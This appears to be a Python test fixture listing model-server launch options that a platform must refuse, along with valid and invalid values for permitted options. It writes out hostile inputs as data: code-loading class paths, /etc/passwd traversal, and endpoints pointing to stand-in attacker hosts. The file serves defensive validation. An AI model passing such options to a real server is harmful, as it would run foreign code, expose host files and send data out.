"""Probes of a deployment's `extra_args`, for the API's and the console's tests alike.

DANGEROUS: options a hostile teammate would pass (code loaded into the server, files
read or written elsewhere on the host, other hosts contacted, GPUs taken that the
deployment does not hold), with the option the refusal must name. SHAPES: each
option users may pass, with a value of its shape and one that is not.
"""

from __future__ import annotations

# Where an upload of that teammate's could lie: a path is refused, whichever it is.
UPLOADED_PY = "/srv/llmplatform/var/uploads/3f2a/evil.py"

DANGEROUS = [
    ("--worker-cls evil.Worker", "--worker-cls"),
    ("--worker-extension-cls evil.Extension", "--worker-extension-cls"),
    (f"--reasoning-parser-plugin {UPLOADED_PY}", "--reasoning-parser-plugin"),
    ("--logits-processors evil:Processor", "--logits-processors"),
    ("--trust-remote-code", "--trust-remote-code"),
    ("--chat-template /etc/passwd", "--chat-template"),
    ("--chat-template ../../../etc/passwd", "--chat-template"),
    ("--tokenizer /etc", "--tokenizer"),
    ("--allowed-local-media-path /", "--allowed-local-media-path"),
    ("--otlp-traces-endpoint http://collector.attacker.example:4317", "--otlp-traces-endpoint"),
    ("--scheduler-cls evil.Scheduler", "--scheduler-cls"),
    ("--io-processor-plugin evil", "--io-processor-plugin"),
    ('--model-class-overrides \'{"LlamaForCausalLM": "evil.Model"}\'', "--model-class-overrides"),
    (f"--log-config-file {UPLOADED_PY}", "--log-config-file"),
    ('--logging-config \'{"pylogging_config_file": "/tmp/x.json"}\'', "--logging-config"),
    ('--kv-transfer-config \'{"kv_connector": "X", "kv_connector_module_path": "evil"}\'', "--kv-transfer-config"),
    (
        '--kv-events-config \'{"enable_kv_cache_events": true, "endpoint": "tcp://attacker:5557"}\'',
        "--kv-events-config",
    ),
    ("--tool-server attacker.example:8000", "--tool-server"),
    ("--hf-token hf_stolen", "--hf-token"),
    ("--trust-request-chat-template", "--trust-request-chat-template"),
    ("--enable-prompt-embeds", "--enable-prompt-embeds"),
    ("--enable-log-requests", "--enable-log-requests"),
    ("--download-dir /tmp/elsewhere", "--download-dir"),
    ("--device-ids 1", "--device-ids"),
    ("--data-parallel-size 2", "--data-parallel-size"),
    ("-tp 2", "-tp"),
    ("--enable-lora", "--enable-lora"),
    ("--grpc", "--grpc"),
    ('--profiler-config \'{"profiler": "torch", "torch_profiler_dir": "/tmp/x"}\'', "--profiler-config"),
]

# Option → (a value of its shape, one that is not). The chat template is the tiny model's own file.
SHAPES = {
    "--dtype": ("--dtype bfloat16", "--dtype fp3"),
    "--quantization": ("-q awq", "--quantization evil"),
    "--kv-cache-dtype": ("--kv-cache-dtype fp8", "--kv-cache-dtype int3"),
    "--max-model-len": ("--max-model-len 32k", "--max-model-len 9999999999"),
    "--seed": ("--seed 42", "--seed -1"),
    "--enforce-eager": ("--enforce-eager", "--enforce-eager=yes"),
    "--disable-sliding-window": ("--enable-sliding-window", "--disable-sliding-window=1"),
    "--generation-config": ("--generation-config vllm", "--generation-config /etc"),
    "--runner": ("--runner generate", "--runner shell"),
    "--convert": ("--convert embed", "--convert pickle"),
    "--model-impl": ("--model-impl transformers", "--model-impl evil.Model"),
    "--config-format": ("--config-format hf", "--config-format yaml"),
    "--tokenizer-mode": ("--tokenizer-mode hf", "--tokenizer-mode evil"),
    "--logprobs-mode": ("--logprobs-mode raw_logprobs", "--logprobs-mode everything"),
    "--max-logprobs": ("--max-logprobs 20", "--max-logprobs 100000"),
    "--performance-mode": ("--performance-mode throughput", "--performance-mode turbo"),
    "--gpu-memory-utilization": ("--gpu-memory-utilization 0.85", "--gpu-memory-utilization 1.5"),
    "--block-size": ("--block-size 16", "--block-size 0"),
    "--enable-prefix-caching": ("--no-enable-prefix-caching", "--enable-prefix-caching --disable-prefix-caching"),
    "--prefix-caching-hash-algo": ("--prefix-caching-hash-algo sha256", "--prefix-caching-hash-algo md5"),
    "--max-num-seqs": ("--max-num-seqs 4", "--max-num-seqs 0"),
    "--max-num-batched-tokens": ("--max-num-batched-tokens 8K", "--max-num-batched-tokens 8.5K"),
    "--enable-chunked-prefill": ("--enable-chunked-prefill", "--enable-chunked-prefill=true"),
    "--async-scheduling": ("--async-scheduling", "--async-scheduling=on"),
    "--scheduling-policy": ("--scheduling-policy priority", "--scheduling-policy lifo"),
    "--safetensors-load-strategy": ("--safetensors-load-strategy lazy", "--safetensors-load-strategy mmap"),
    "--use-tqdm-on-load": ("--no-use-tqdm-on-load", "--use-tqdm-on-load=0"),
    "--tensor-parallel-size": ("--tensor-parallel-size 1", "--tensor-parallel-size 8"),
    "--pipeline-parallel-size": ("-pp 1", "--pipeline-parallel-size 4"),
    "--max-lora-rank": ("--max-lora-rank 64", "--max-lora-rank 63"),
    "--max-loras": ("--max-loras 2", "--max-loras 100"),
    "--lora-dtype": ("--lora-dtype bfloat16", "--lora-dtype int8"),
    "--tokenizer": ("--tokenizer models/tiny-llama", "--tokenizer ../../etc"),
    "--chat-template": ("--chat-template chat_template.jinja", "--chat-template /etc/passwd"),
    "--chat-template-content-format": ("--chat-template-content-format openai", "--chat-template-content-format raw"),
    "--default-chat-template-kwargs": (
        "--default-chat-template-kwargs '{\"enable_thinking\": false}'",
        "--default-chat-template-kwargs '[\"enable_thinking\"]'",
    ),
    "--response-role": ("--response-role assistant", "--response-role 'a b'"),
    "--enable-auto-tool-choice": ("--enable-auto-tool-choice", "--enable-auto-tool-choice=1"),
    "--tool-call-parser": ("--tool-call-parser hermes", f"--tool-call-parser {UPLOADED_PY}"),
    "--reasoning-parser": ("--reasoning-parser deepseek_r1", "--reasoning-parser evil"),
    "--return-tokens-as-token-ids": ("--return-tokens-as-token-ids", "--return-tokens-as-token-ids=1"),
    "--enable-prompt-tokens-details": ("--enable-prompt-tokens-details", "--enable-prompt-tokens-details=1"),
    "--limit-mm-per-prompt": (
        "--limit-mm-per-prompt '{\"image\": 2}'",
        '--limit-mm-per-prompt \'{"image": {"count": 9}}\'',
    ),
    "--language-model-only": ("--language-model-only", "--language-model-only=1"),
    "--disable-log-stats": ("--disable-log-stats", "--disable-log-stats=1"),
    "--disable-uvicorn-access-log": ("--disable-uvicorn-access-log", "--disable-uvicorn-access-log=1"),
}
